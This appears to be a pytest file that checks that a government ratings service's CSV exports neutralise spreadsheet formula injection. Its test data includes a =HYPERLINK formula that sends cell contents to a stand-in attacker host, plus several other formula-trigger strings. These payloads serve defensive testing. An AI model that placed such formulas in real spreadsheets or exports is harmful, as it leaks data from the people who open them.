"""Formula injection in the rating exports (issue 13, point 1): a citizen's comment such as
`=HYPERLINK("http://evil.example/?"&A1,"click")`, `=1+1`, `@SUM(1)` or `-2+3`, stored through
the API (and one beginning with a tab or a carriage return, stored in the database), comes
out of `egov ratings export` and `GET /api/v1/ratings/export` with a leading `'` — text, not
a formula — on SQLite and PostgreSQL; the database keeps the original text, and LibreOffice
opens the export with the comment as text (it runs an unprotected `=1+1`)."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import text

from egov.cells import FORMULA_PREFIXES
from tests.helpers.register import Env

THROUGH_API = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "@SUM(1)", "-2+3", "+1"]
IN_DB = ["\t=1+1", "\r=2+2"]  # controls the rating API may refuse at the edge; stored directly


def _store_hostile_comments(api: Env) -> None:
    for i, comment in enumerate(THROUGH_API):
        r = api.rate(api.token(ref=f"FI-{i}"), 4, comment=comment)
        assert r.status_code == 200, r.text
    for i in range(len(IN_DB)):
        r = api.rate(api.token(ref=f"FD-{i}"), 4, comment=f"placeholder {i}")
        assert r.status_code == 200, r.text
    from egov.db import session_scope

    with session_scope() as s:
        for i, comment in enumerate(IN_DB):
            s.execute(
                text("UPDATE rating SET comment = :c WHERE comment = :p"),
                {"c": comment, "p": f"placeholder {i}"},
            )
    api.rate(api.token(ref="FB"), 2, comment="plain")  # drivers "-efficiency": text beginning with -


def _check_export(body: str) -> None:
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    comments = {r["comment"] for r in rows}
    for comment in THROUGH_API + IN_DB:
        assert "'" + comment in comments, (comment, comments)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_PREFIXES), (column, value)
        assert row["level"] in {"1", "2", "3", "4", "5"}  # a number, not neutralised
    assert {r["drivers"] for r in rows} >= {"'-efficiency"}


def test_cli_and_http_exports_neutralise_formulas(api: Env, egov: Any, tmp_path: Path) -> None:
    from egov.clock import local_day
    from egov.db import session_scope

    _store_hostile_comments(api)
    r = api.client.get("/api/v1/ratings/export", headers=api.auth("assessor"))
    assert r.status_code == 200
    _check_export(r.text)
    today = str(local_day())
    out = tmp_path / "ratings.csv"
    cli = egov(["ratings", "export", "--from", today, "--to", today, "--out", out])
    assert cli.code == 0, cli.err
    _check_export(out.read_bytes().decode("utf-8"))  # no newline translation
    with session_scope() as s:
        stored = set(s.execute(text("SELECT comment FROM rating")).scalars())
    assert set(THROUGH_API + IN_DB) <= stored  # the database keeps the original text


@pytest.mark.slow
def test_libreoffice_opens_the_export_with_comments_as_text(soffice: str, tmp_path: Path) -> None:
    from egov.cells import neutral_row

    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(["comment", "level"])
        writer.writerow(["=1+1", 2])  # unprotected: LibreOffice runs it
        for comment in THROUGH_API:
            writer.writerow(neutral_row([comment, -0.5]))
    proc = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            tmp_path / "lo",
            path,
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert proc.returncode == 0, proc.stderr
    ws = openpyxl.load_workbook(tmp_path / "lo" / "export.xlsx").active
    assert ws is not None
    cells = [(ws.cell(r, 1), ws.cell(r, 2)) for r in range(2, ws.max_row + 1)]
    assert cells[0][0].data_type == "f"  # the control: a plain =1+1 is a formula
    for (comment, level), original in zip(cells[1:], THROUGH_API, strict=True):
        assert comment.data_type == "s" and comment.value == "'" + original
        assert level.data_type == "n" and level.value == -0.5  # numbers stay numbers
